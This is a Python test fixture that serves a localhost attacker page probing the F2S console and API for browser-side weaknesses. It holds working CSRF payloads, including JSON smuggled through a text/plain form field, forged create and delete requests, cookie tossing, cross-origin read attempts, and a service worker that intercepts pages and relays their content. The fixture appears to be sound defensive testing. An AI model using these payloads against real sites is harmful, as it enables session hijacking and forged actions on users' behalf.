#!/usr/bin/env python3
"""A function whose page attacks the API of F2S from the browser of its visitor. $PORT is the port to listen on.

Each attack puts its result in window.results: the text that it could read, or how it failed.
"""
import http.server
import os

PAGE = b"""<!doctype html><title>attacking</title>
<p><a href="/functions" target="_blank" rel="opener">functions</a></p>
<iframe name="hole" hidden></iframe>
<script src="attack.js"></script>
"""

SCRIPT = b"""
const console_ = new URLSearchParams(location.search).get("console");
const api = location.origin;
const evil = JSON.stringify({
  apiVersion: "f2s.opensight.ch/v1alpha1", kind: "Function", metadata: {name: "evil"},
  spec: {endpoint: "/evil"}, target: {command: ["true"]}});
window.results = {};
const worker = [];
window.seenByWorker = () => worker;

async function attempt(name, attack) {
  const late = new Promise(resolve => setTimeout(() => resolve("no answer"), 3000));
  try { results[name] = String(await Promise.race([attack(), late])); } catch (error) { results[name] = "failed: " + error.name; }
}
const seen = async response => `${response.type} ${response.status} ${(await response.text()).slice(0, 80)}`;
const send = (url, type, mode) => fetch(url, {
  method: "POST", mode, credentials: "include", headers: {"Content-Type": type}, body: evil}).then(seen);

function frame(url) {
  return new Promise(resolve => {
    const frame = document.createElement("iframe");
    frame.onload = () => {
      try { resolve("read: " + frame.contentDocument.body.innerText.slice(0, 80)); } catch (error) { resolve("failed: " + error.name); }
    };
    frame.src = url;
    document.body.append(frame);
  });
}
function image(url) {
  return new Promise(resolve => {
    const image = new Image();
    image.onload = () => resolve("loaded");
    image.onerror = () => resolve("failed: not an image");
    image.src = url;
  });
}
function form(url) {
  const form = document.createElement("form");
  form.method = "POST"; form.action = url; form.target = "hole"; form.enctype = "text/plain";
  const field = document.createElement("input");
  field.name = evil.slice(0, -1) + ', "x":"'; field.value = '"}';
  form.append(field);
  document.body.append(form);
  form.submit();
  return new Promise(resolve => setTimeout(() => resolve("sent"), 300));
}
function socket(url) {
  return new Promise(resolve => {
    const socket = new WebSocket(url.replace("http", "ws") + "/events");
    socket.onopen = () => resolve("opened");
    socket.onerror = () => resolve("failed: no connection");
  });
}
async function popup(url) {
  const opened = window.open(url);
  if (!opened) return "failed: blocked";
  await new Promise(resolve => setTimeout(resolve, 700));
  try { return "read: " + opened.document.body.innerText.slice(0, 80); } catch (error) { return "failed: " + error.name; } finally { opened.close(); }
}

async function main() {
  navigator.serviceWorker.addEventListener("message", event => worker.push(event.data));
  await attempt("worker", async () => {
    await navigator.serviceWorker.register("worker.js", {scope: "/"});
    return "registered for /";
  });
  await attempt("inner worker", async () => {
    await navigator.serviceWorker.register("worker.js");
    return "registered for " + new URL("./", location).pathname;
  });
  for (const [place, origin] of [["console", console_], ["api", api]]) {
    await attempt(`${place} read`, () => fetch(origin + "/functions", {credentials: "include"}).then(seen));
    await attempt(`${place} read, no-cors`, () => fetch(origin + "/functions", {credentials: "include", mode: "no-cors"}).then(seen));
    await attempt(`${place} session`, () => fetch(origin + "/session", {credentials: "include"}).then(seen));
    await attempt(`${place} declare`, () => send(origin + "/functions", "application/json", "cors"));
    await attempt(`${place} declare as text`, () => send(origin + "/functions", "text/plain", "no-cors"));
    await attempt(`${place} delete`, () => fetch(origin + "/functions/hostile", {method: "DELETE", credentials: "include"}).then(seen));
    await attempt(`${place} form`, () => form(origin + "/functions"));
    await attempt(`${place} frame`, () => frame(origin + "/"));
    await attempt(`${place} frame of functions`, () => frame(origin + "/functions"));
    await attempt(`${place} image`, () => image(origin + "/functions"));
    await attempt(`${place} socket`, () => socket(origin));
    await attempt(`${place} popup`, () => popup(origin + "/functions"));
  }
  await attempt("console sign-out", () => fetch(console_ + "/session", {method: "DELETE", credentials: "include"}).then(seen));
  await attempt("cookie read", () => /f2s-/.test(document.cookie) ? "read: " + document.cookie : "failed: not visible");
  await attempt("cookie sent", () => fetch("cookies").then(response => response.text()));
  await attempt("cookie set", async () => {
    document.cookie = "f2s-session=evil; path=/";
    document.cookie = "f2s-session=evil; path=/functions";
    await fetch("set-cookies");
    return "tried";
  });
  document.title = "done";
}
main();
"""

# It passes every page that it can read on to the attacker's page.
WORKER = b"""
self.addEventListener("install", event => event.waitUntil(self.skipWaiting()));
self.addEventListener("activate", event => event.waitUntil(self.clients.claim()));
self.addEventListener("fetch", event => {
  if (new URL(event.request.url).pathname.startsWith("/invoke/")) return;
  event.respondWith((async () => {
    const response = await fetch(event.request);
    const text = await response.clone().text().catch(() => "");
    for (const client of await self.clients.matchAll({includeUncontrolled: true})) {
      client.postMessage(`${new URL(event.request.url).pathname}: ${text.slice(0, 80)}`);
    }
    return response;
  })());
});
"""


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_GET(self):
        path = self.path.split("?")[0]
        content, kind, fields = PAGE, "text/html", []
        if path.endswith("/attack.js"):
            content, kind = SCRIPT, "text/javascript"
        elif path.endswith("/worker.js"):
            content, kind = WORKER, "text/javascript"
            fields = [("Service-Worker-Allowed", "/")]
        elif path.endswith("/set-cookies"):
            content = b"set"
            fields = [("Set-Cookie", f"f2s-session=evil; Path={path}") for path in ("/", "/functions", "/session")]
        elif path.endswith("/cookies"):
            content = ("got: " + (self.headers.get("Cookie") or "")).encode()
        self.send_response(200)
        for name, value in [("Content-Type", kind), ("Content-Length", str(len(content)))] + fields:
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(content)

    def log_message(self, *arguments):
        pass


http.server.ThreadingHTTPServer(("127.0.0.1", int(os.environ["PORT"])), Handler).serve_forever()
